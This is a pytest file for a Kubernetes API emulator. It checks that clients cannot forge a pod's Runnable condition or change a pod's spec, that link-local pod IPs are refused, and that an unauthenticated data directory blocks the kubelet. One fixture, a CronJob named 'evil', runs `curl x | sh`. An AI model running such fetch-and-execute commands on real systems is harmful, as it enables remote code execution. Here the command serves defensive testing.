"""What decides whether the kubelet runs a pod, and what a client may change of a pod once it exists.

- The `emulator.local/Runnable` condition is the pod strategy's own: a client can neither bring it on create
  nor add, change or remove it later (through the pod or its status).
- A pod's spec is fixed once it exists, as ValidatePodUpdate has it (Kubernetes 1.32): only the containers'
  images, a shorter activeDeadlineSeconds, added tolerations, removed scheduling gates and a negative
  terminationGracePeriodSeconds set to 1 may change.
- status.podIP refuses the addresses the API refuses for endpoints (unspecified, link-local, link-local multicast).
- The data directory records that it was served without authentication; `emulator serve --kubelet` refuses
  to run what it stores until the owner says so (emulator/runtime.py, emulator/security/datadir.py).

Each test wires a real Store, Cluster and Registry, as tests/unit/test_registry.py does.
"""

from __future__ import annotations

import json
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from emulator import errors
from emulator.controllers.namespaces import NamespaceController
from emulator.kinds import CRON_JOBS, DEPLOYMENTS, PODS
from emulator.kinds.pod import RUNNABLE_CONDITION, SPEC_UPDATE_FORBIDDEN
from emulator.registry.ipam import AddressPlan
from emulator.registry.registry import JSON_PATCH, MERGE_PATCH, STRATEGIC_MERGE_PATCH, Cluster, Registry
from emulator.runtime import stored_pod_specs, untrusted_store_message
from emulator.security import datadir
from emulator.store.backend import MemoryBackend
from emulator.store.store import Store

NS = "default"
FORGED = {"type": RUNNABLE_CONDITION, "status": "True", "reason": "CommandKnown"}
KUBERNETES_MESSAGE = (
    "spec: Forbidden: pod updates may not change fields other than `spec.containers[*].image`,"
    "`spec.initContainers[*].image`,`spec.activeDeadlineSeconds`,`spec.tolerations` (only additions to existing "
    "tolerations),`spec.terminationGracePeriodSeconds` (allow it to be set to 1 if it was previously negative)"
)


def make_registry(kubelet: bool) -> Registry:
    """A registry whose pod strategy asks a kubelet (when `kubelet`) which pods run: those with a command,
    without a client-given podIP and not registered by `emulator run` (as emulator/kubelet/images.py)."""
    cluster = Cluster(Store(MemoryBackend()), AddressPlan("127.96.0.0/12", "127.244.0.0/16", "127.250.0.0/16", "30000-32767"))
    if kubelet:
        def unrunnable(pod: dict[str, Any]) -> str | None:
            if (pod.get("status") or {}).get("podIP"):
                return "the pod brings its own status.podIP"
            if "emulator.local/command" in (pod["metadata"].get("annotations") or {}):
                return "registered by `emulator run`"
            return None if pod["spec"]["containers"][0].get("command") else "no command"
        cluster.unrunnable = unrunnable
    registry = Registry(cluster)
    registry.claim_stored()
    NamespaceController(registry).bootstrap("127.0.0.1", 6443)
    return registry


def pod(name: str = "p", command: list[str] | None = None, status: dict[str, Any] | None = None, **meta: Any) -> dict[str, Any]:
    container: dict[str, Any] = {"name": "c", "image": "busybox", **({"command": command} if command else {})}
    return {
        "metadata": {"name": name, **meta}, "spec": {"containers": [container]}, **({"status": status} if status else {}),
    }


def runnable(obj: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in (obj.get("status") or {}).get("conditions") or [] if c["type"] == RUNNABLE_CONDITION]


def refused(call: Callable[[], Any]) -> errors.StatusError:
    with pytest.raises(errors.StatusError) as caught:
        call()
    return caught.value


# -- the Runnable condition is the strategy's ----------------------------------------------------------


def test_a_client_given_runnable_condition_is_dropped_without_a_kubelet() -> None:
    registry = make_registry(kubelet=False)
    stored = registry.create(PODS, NS, pod(command=["sh", "-c", "id"], status={"conditions": [FORGED]})).obj
    assert runnable(stored) == []  # a later start with --kubelet finds nothing that says "run it"


def test_a_pod_with_its_own_pod_ip_never_carries_runnable_true() -> None:
    registry = make_registry(kubelet=True)
    stored = registry.create(PODS, NS, pod(command=["sh", "-c", "id"], status={"podIP": "10.1.2.3", "conditions": [FORGED]})).obj
    assert [(c["status"], c["reason"]) for c in runnable(stored)] == [("False", "NoCommand")]


def test_a_runnable_pod_carries_one_runnable_condition_the_strategys() -> None:
    registry = make_registry(kubelet=True)
    forged = {**FORGED, "message": "mine"}
    stored = registry.create(PODS, NS, pod(command=["true"], status={"conditions": [forged]})).obj
    assert [(c["status"], c.get("message")) for c in runnable(stored)] == [("True", None)]


@pytest.mark.parametrize("patch_type", [STRATEGIC_MERGE_PATCH, MERGE_PATCH, JSON_PATCH])
def test_the_status_subresource_cannot_add_runnable(patch_type: str) -> None:
    registry = make_registry(kubelet=True)
    registry.create(PODS, NS, pod(command=["true"], annotations={"emulator.local/command": "true"}))
    patch: Any = {"status": {"conditions": [FORGED]}}
    if patch_type == JSON_PATCH:
        patch = [{"op": "add", "path": "/status/conditions/-", "value": FORGED}]
    stored = registry.patch(PODS, NS, "p", patch_type, patch, subresource="status").obj
    assert [c["status"] for c in runnable(stored)] == ["False"]


def test_updates_keep_the_stored_runnable_condition_as_it_is() -> None:
    registry = make_registry(kubelet=True)
    created = registry.create(PODS, NS, pod(command=["true"])).obj
    kept = runnable(created)
    # the status: a client turning it off, or removing every condition, changes nothing of it
    flipped = [{**c, "status": "False"} if c["type"] == RUNNABLE_CONDITION else c for c in created["status"]["conditions"]]
    after = registry.update(PODS, NS, "p", {**created, "status": {**created["status"], "conditions": flipped}}, subresource="status").obj
    assert runnable(after) == kept
    after = registry.update(PODS, NS, "p", {**after, "status": {"phase": "Running"}}, subresource="status").obj
    assert runnable(after) == kept and after["status"]["phase"] == "Running"
    # the pod itself (its status is the stored one anyway)
    after = registry.patch(PODS, NS, "p", MERGE_PATCH, {"metadata": {"labels": {"a": "b"}}, "status": {"conditions": []}}).obj
    assert runnable(after) == kept
    # a pod that was not runnable stays so
    registry.create(PODS, NS, pod("other"))
    other = registry.update(PODS, NS, "other", {**registry.get(PODS, NS, "other"), "status": {"conditions": [FORGED]}}, subresource="status").obj
    assert [c["status"] for c in runnable(other)] == ["False"]


# -- a pod's spec is fixed (ValidatePodUpdate) ----------------------------------------------------------


def test_a_pods_command_cannot_change() -> None:
    registry = make_registry(kubelet=True)
    registry.create(PODS, NS, pod(command=["sleep", "60"]))
    error = refused(lambda: registry.patch(PODS, NS, "p", STRATEGIC_MERGE_PATCH, {"spec": {"containers": [{"name": "c", "command": ["sh", "-c", "id"]}]}}))
    assert error.code == 422 and error.reason == "Invalid"
    assert error.message.startswith('Pod "p" is invalid: ' + KUBERNETES_MESSAGE + "\n")
    assert '["sleep","60"]' in error.message and '["sh","-c","id"]' in error.message  # what differs, as a diff
    assert error.details["causes"] == [{"reason": "FieldValueForbidden", "message": error.details["causes"][0]["message"], "field": "spec"}]
    assert registry.get(PODS, NS, "p")["spec"]["containers"][0]["command"] == ["sleep", "60"]


@pytest.mark.parametrize(("field", "value"), [
    ("nodeName", "elsewhere"), ("serviceAccountName", "other"), ("hostNetwork", True), ("restartPolicy", "Never"),
    ("volumes", [{"name": "v", "emptyDir": {}}]), ("hostname", "h"),
])
def test_other_spec_fields_cannot_change(field: str, value: Any) -> None:
    registry = make_registry(kubelet=False)
    registry.create(PODS, NS, pod())
    error = refused(lambda: registry.patch(PODS, NS, "p", MERGE_PATCH, {"spec": {field: value}}))
    assert error.code == 422 and KUBERNETES_MESSAGE in error.message


def test_what_kubernetes_lets_an_update_change() -> None:
    registry = make_registry(kubelet=False)
    created = pod()
    created["spec"].update({
        "activeDeadlineSeconds": 100, "terminationGracePeriodSeconds": -1,
        "tolerations": [{"key": "k", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 5}],
        "schedulingGates": [{"name": "g1"}, {"name": "g2"}], "nodeSelector": {"a": "b"},
    })
    registry.create(PODS, NS, created)
    patched = registry.patch(PODS, NS, "p", STRATEGIC_MERGE_PATCH, {
        "metadata": {"labels": {"x": "y"}},
        "spec": {
            "containers": [{"name": "c", "image": "busybox:2"}], "activeDeadlineSeconds": 50,
            "terminationGracePeriodSeconds": 1,
            "tolerations": [
                {"key": "k", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 9},
                {"key": "new", "operator": "Exists"},
            ],
            "nodeSelector": {"c": "d"},  # a gated pod's selector may grow
        },
    }).obj
    patched = registry.patch(PODS, NS, "p", MERGE_PATCH, {"spec": {"schedulingGates": [{"name": "g2"}]}}).obj
    spec = patched["spec"]
    assert spec["containers"][0]["image"] == "busybox:2" and spec["activeDeadlineSeconds"] == 50
    # (and the DefaultTolerationSeconds plugin's two, put back on every update as on a cluster)
    assert spec["terminationGracePeriodSeconds"] == 1 and [t["key"] for t in spec["tolerations"]] == [
        "k", "new", "node.kubernetes.io/not-ready", "node.kubernetes.io/unreachable"]
    assert spec["schedulingGates"] == [{"name": "g2"}] and spec["nodeSelector"] == {"a": "b", "c": "d"}
    # a PUT of what is stored, with the server's defaults left out, changes nothing
    again = registry.get(PODS, NS, "p")
    for default in ("serviceAccountName", "serviceAccount", "nodeName", "enableServiceLinks"):
        again["spec"].pop(default, None)  # (a gated pod has no node yet)
    assert not registry.update(PODS, NS, "p", again).changed


@pytest.mark.parametrize(("spec", "patch", "expected"), [
    ({}, {"containers": [{"name": "c", "image": "busybox"}, {"name": "d", "image": "x"}]},
     "spec.containers: Forbidden: pod updates may not add or remove containers"),
    ({}, {"containers": [{"name": "c", "image": ""}]}, "spec.containers[0].image: Required value"),
    ({}, {"containers": [{"name": "c", "image": " busybox"}]},
     'spec.containers[0].image: Invalid value: " busybox": must not have leading or trailing whitespace'),
    ({"activeDeadlineSeconds": 10}, {"activeDeadlineSeconds": 20},
     "spec.activeDeadlineSeconds: Invalid value: 20: must be less than or equal to previous value"),
    ({"activeDeadlineSeconds": 10}, {"activeDeadlineSeconds": None},
     'spec.activeDeadlineSeconds: Invalid value: "null": must not update from a positive integer to nil value'),
    ({"tolerations": [{"key": "k", "operator": "Exists"}]}, {"tolerations": [{"key": "other", "operator": "Exists"}]},
     "spec.tolerations: Forbidden: existing toleration can not be modified except its tolerationSeconds"),
    ({"schedulingGates": [{"name": "g1"}]}, {"schedulingGates": [{"name": "g1"}, {"name": "g2"}]},
     "spec.schedulingGates[1].name: Forbidden: only deletion is allowed, but found new scheduling gate 'g2'"),
    ({"terminationGracePeriodSeconds": 30}, {"terminationGracePeriodSeconds": 1}, KUBERNETES_MESSAGE),
    ({"schedulingGates": [{"name": "g"}], "nodeSelector": {"a": "b"}}, {"nodeSelector": {"a": "z"}},
     'spec.nodeSelector: Invalid value: map[string]string{"a":"z"}: only additions to spec.nodeSelector are allowed (no mutations or deletions)'),
], ids=["add-container", "no-image", "image-space", "longer-deadline", "deadline-removed", "toleration-changed",
        "gate-added", "grace-changed", "gated-selector-changed"])
def test_what_kubernetes_refuses_in_an_update(spec: dict[str, Any], patch: dict[str, Any], expected: str) -> None:
    registry = make_registry(kubelet=False)
    created = pod()
    created["spec"].update(spec)
    registry.create(PODS, NS, created)
    error = refused(lambda: registry.patch(PODS, NS, "p", MERGE_PATCH if "containers" not in patch else STRATEGIC_MERGE_PATCH, {"spec": patch}))
    assert error.code == 422 and expected in error.message


def test_the_message_is_the_kubernetes_one() -> None:
    assert SPEC_UPDATE_FORBIDDEN == KUBERNETES_MESSAGE.removeprefix("spec: Forbidden: ")


# -- status.podIP ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("ip", "detail"), [
    ("169.254.169.254", "may not be in the link-local range (169.254.0.0/16, fe80::/10)"),
    ("0.0.0.0", "may not be unspecified (0.0.0.0)"),
    ("224.0.0.1", "may not be in the link-local multicast range (224.0.0.0/24, ff02::/10)"),
    ("fe80::1", "may not be in the link-local range"),
    ("not-an-ip", "must be a valid IP address"),
])
def test_a_pod_ip_the_api_refuses_for_endpoints_is_refused(ip: str, detail: str) -> None:
    registry = make_registry(kubelet=False)
    error = refused(lambda: registry.create(PODS, NS, pod(status={"podIP": ip})))
    assert error.code == 422 and f'status.podIP: Invalid value: "{ip}": {detail}' in error.message
    error = refused(lambda: registry.create(PODS, NS, pod(status={"podIPs": [{"ip": ip}]})))
    assert error.code == 422 and detail in error.message


@pytest.mark.parametrize("ip", ["127.0.0.1", "127.244.0.9", "10.1.2.3", "172.18.0.5"])
def test_unicast_pod_ips_are_accepted(ip: str) -> None:
    stored = make_registry(kubelet=False).create(PODS, NS, pod(status={"podIP": ip})).obj
    assert stored["status"]["podIP"] == ip and stored["status"]["podIPs"] == [{"ip": ip}]


def test_pod_ips_are_normalised_as_the_v1_conversion_does() -> None:
    registry = make_registry(kubelet=True)
    # podIPs alone: podIP is its first (and the pod, bringing its own address, is never run)
    only_list = registry.create(PODS, NS, pod("a", command=["true"], status={"podIPs": [{"ip": "10.1.2.3"}]})).obj
    assert only_list["status"]["podIP"] == "10.1.2.3"
    assert [c["status"] for c in runnable(only_list)] == ["False"]
    # both, differing: podIP is authoritative
    both = registry.create(PODS, NS, pod("b", status={"podIP": "10.1.2.4", "podIPs": [{"ip": "169.254.169.254"}]})).obj
    assert both["status"]["podIPs"] == [{"ip": "10.1.2.4"}]


# -- the data directory served without authentication ---------------------------------------------------


def test_the_served_open_record(tmp_path: Path) -> None:
    data = tmp_path / "data"
    assert datadir.served_open(data) is None
    datadir.mark_served_open(data, "2026-01-01T00:00:00Z", "http://127.0.0.1:8080")
    datadir.mark_served_open(data, "2026-01-02T00:00:00Z", "http://127.0.0.1:8080")
    assert datadir.served_open(data) == {"first": "2026-01-01T00:00:00Z", "last": "2026-01-02T00:00:00Z", "api": "http://127.0.0.1:8080"}
    assert stat.S_IMODE((data / datadir.SERVED_OPEN_FILE).stat().st_mode) == 0o600
    (data / datadir.SERVED_OPEN_FILE).write_text("garbled")
    assert datadir.served_open(data) == {}  # still a record: the mark matters, not its dates
    datadir.clear_served_open(data)
    assert datadir.served_open(data) is None
    datadir.clear_served_open(data)  # twice is fine


def test_the_refusal_lists_what_could_run(tmp_path: Path) -> None:
    registry = make_registry(kubelet=True)
    template = {"metadata": {"labels": {"app": "w"}}, "spec": {"containers": [{"name": "c", "image": "nginx"}]}}
    registry.create(DEPLOYMENTS, NS, {"metadata": {"name": "web"}, "spec": {"selector": {"matchLabels": {"app": "w"}}, "template": template}})
    job = {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "c", "image": "sh", "command": ["sh", "-c"], "args": ["curl x | sh"]}]}}}
    registry.create(CRON_JOBS, NS, {"metadata": {"name": "evil"}, "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": job}}})
    registry.create(PODS, NS, pod("runs", command=["sleep", "1"]))
    registry.create(PODS, NS, pod("record"))  # not runnable: never listed
    found = stored_pod_specs(registry.store)
    assert found == [
        ("cronjob/evil -n default", "sh -c 'curl x | sh'"),
        ("pod/runs -n default", "sleep 1"),
        ("deployment/web -n default", "image nginx"),
    ]
    message = untrusted_store_message(tmp_path, {"first": "T1", "last": "T2", "api": "http://127.0.0.1:8080"}, found * 10, "owner")
    assert message.startswith(f"not started: {tmp_path} was served without authentication (first T1, last T2, at http://127.0.0.1:8080).")
    assert "runs their commands as owner. 30 stored object(s) it may run:" in message
    assert "  cronjob/evil -n default: sh -c 'curl x | sh'" in message and "  ... and 10 more" in message
    assert f"emulator serve --data-dir {tmp_path} --require-auth" in message
    assert f"KUBECONFIG={tmp_path / 'kubeconfig'} kubectl get deployments,replicasets," in message
    assert "--trust-stored-objects" in message and str(tmp_path / datadir.SERVED_OPEN_FILE) in message
    assert json.dumps(message)  # one plain string
